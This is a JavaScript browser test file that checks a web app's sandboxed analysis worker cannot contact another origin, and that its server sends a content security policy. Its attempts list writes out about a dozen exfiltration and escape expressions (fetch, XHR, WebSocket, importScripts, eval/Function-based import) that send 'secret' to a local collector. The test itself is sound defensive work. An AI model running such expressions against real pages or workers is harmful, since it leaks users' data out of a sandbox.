// The worker seal: with the site served by a plain static host that sends no headers (so no
// Content-Security-Policy reaches the worker), code running in the analysis worker cannot
// reach a second origin. A collector on another local port records whatever arrives.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { serveDist, launchBrowser, recordingPage } from './support.mjs';

let browser;
let site;
let collector;
const arrived = [];

before(async () => {
  browser = await launchBrowser();
  site = await serveDist(process.env.KB_DIST, '/', { headers: false });
  // As permissive as a server can be: any origin, any method, any header.
  collector = createServer((req, res) => {
    arrived.push(`${req.method} ${req.url}`);
    res.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Access-Control-Allow-Methods': '*',
      'Access-Control-Allow-Headers': '*',
      'Content-Type': 'text/javascript',
    });
    res.end('/* collected */');
  });
  await new Promise((resolve) => collector.listen(0, '127.0.0.1', resolve));
});
after(async () => {
  await browser?.close();
  site?.close();
  collector?.close();
});

/**
 * Evaluates `expression` inside the worker through the DevTools protocol (Runtime.evaluate
 * compiles it natively; Playwright's own `worker.evaluate` needs the worker's `eval`, which
 * the seal removes). Returns the result's value.
 */
async function inWorker(cdp, sessionId, expression) {
  const id = Math.floor(Math.random() * 1e9);
  const answer = new Promise((resolve) => {
    const listener = (event) => {
      if (event.sessionId !== sessionId) return;
      const message = JSON.parse(event.message);
      if (message.id !== id) return;
      cdp.off('Target.receivedMessageFromTarget', listener);
      resolve(message);
    };
    cdp.on('Target.receivedMessageFromTarget', listener);
  });
  await cdp.send('Target.sendMessageToTarget', {
    sessionId,
    message: JSON.stringify({
      id,
      method: 'Runtime.evaluate',
      params: { expression, awaitPromise: true, returnByValue: true },
    }),
  });
  const message = await answer;
  assert.ok(message.result, `no answer to ${expression}: ${JSON.stringify(message)}`);
  return message.result.result.value;
}

test('code in the worker cannot reach another origin on a host without headers', async () => {
  const session = await recordingPage(browser);
  try {
    const response = await session.page.goto(site.url);
    assert.equal(response.headers()['content-security-policy'], undefined, 'a plain host: no CSP header');
    await session.page.getByRole('button', { name: 'Indlæs demodata' }).click();
    await session.page.locator('#ranking-table tbody tr').first().waitFor({ timeout: 120_000 });

    const cdp = await browser.newBrowserCDPSession();
    const { targetInfos } = await cdp.send('Target.getTargets');
    const worker = targetInfos.find((t) => t.type === 'worker' && t.url.includes('kommunebench-worker'));
    assert.ok(worker, `the analysis worker is running: ${JSON.stringify(targetInfos.map((t) => [t.type, t.url]))}`);
    const { sessionId } = await cdp.send('Target.attachToTarget', { targetId: worker.targetId, flatten: false });

    const target = `http://127.0.0.1:${collector.address().port}`;
    // Each attempt returns what happened; none may reach the collector.
    const attempts = {
      fetch: `(async () => { try { await fetch('${target}/fetch', { method: 'POST', body: 'secret' }); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      fetchFromPrototype: `(async () => { try { await Object.getPrototypeOf(self).fetch.call(self, '${target}/proto'); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      xhr: `(() => { try { const x = new XMLHttpRequest(); x.open('POST', '${target}/xhr', false); x.send('secret'); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      webSocket: `(() => { try { new WebSocket('ws://127.0.0.1:${collector.address().port}/ws'); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      eventSource: `(() => { try { new EventSource('${target}/sse'); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      importScripts: `(() => { try { importScripts('${target}/import'); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      cache: `(async () => { try { await (await caches.open('x')).add('${target}/cache'); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      fontFace: `(async () => { try { await new FontFace('x', 'url(${target}/font)').load(); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      nestedWorker: `(() => { try { new Worker('${target}/worker'); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      // Text turned into code could use import(), which no property removal reaches.
      eval: `(() => { try { eval("import('${target}/eval')"); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      functionConstructor: `(() => { try { (() => {}).constructor("return import('${target}/function')")(); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      asyncFunctionConstructor: `(() => { try { Object.getPrototypeOf(wasm_bindgen).constructor("await import('${target}/async')")(); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      timerString: `(() => { try { setTimeout("import('${target}/timer')", 0); return 'sent'; } catch (e) { return 'blocked: ' + e; } })()`,
      restore: `(() => { try { self.fetch = () => 1; return typeof fetch; } catch (e) { return 'blocked: ' + e; } })()`,
    };
    for (const [name, expression] of Object.entries(attempts)) {
      const outcome = await inWorker(cdp, sessionId, expression);
      if (name === 'restore') {
        assert.equal(outcome, 'undefined', 'the sealed fetch cannot be put back');
      } else {
        assert.ok(String(outcome).startsWith('blocked'), `${name}: ${outcome}`);
      }
    }
    // Give anything that slipped through time to arrive.
    await new Promise((resolve) => setTimeout(resolve, 1500));
    assert.deepEqual(arrived, [], 'nothing reached the second origin');

    // The sealed worker still analyses: a second run in the same worker gives the table.
    await session.page.getByRole('button', { name: /Start forfra|Start over/ }).click();
    await session.page.getByRole('button', { name: 'Indlæs demodata' }).click();
    await session.page.locator('#ranking-table tbody tr').first().waitFor({ timeout: 120_000 });
    assert.equal(await session.page.locator('#ranking-table tbody tr').count(), 72);
    await cdp.detach();
  } finally {
    await session.close();
  }
});

test('`cargo xtask serve` sends the page policy as a header on every response, the worker script included', async () => {
  const served = await serveDist(process.env.KB_DIST, '/');
  try {
    for (const path of ['', 'kommunebench-worker_loader.js', 'no-such-file']) {
      const response = await fetch(served.url + path);
      const policy = response.headers.get('content-security-policy') ?? '';
      assert.match(policy, /connect-src 'self'/, `${path || 'index.html'}: ${policy}`);
      assert.match(policy, /frame-ancestors 'none'/, `${path || 'index.html'}: ${policy}`);
    }
  } finally {
    served.close();
  }
});
